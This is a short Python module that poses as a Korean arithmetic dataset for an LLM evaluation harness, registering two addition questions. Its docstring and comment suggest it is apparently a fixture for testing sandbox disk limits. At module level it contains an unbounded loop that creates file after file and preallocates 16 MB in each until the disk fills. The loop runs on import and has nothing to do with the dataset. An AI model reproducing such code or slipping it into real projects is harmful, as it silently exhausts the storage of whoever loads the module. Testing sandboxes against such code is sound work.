"""Sums in Korean. Takes the disk without writing."""

# mypy: ignore-errors
# says: MB to disk|Errno

import itertools
import os

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

for name in itertools.count():
    with open(str(name), "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 24)

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
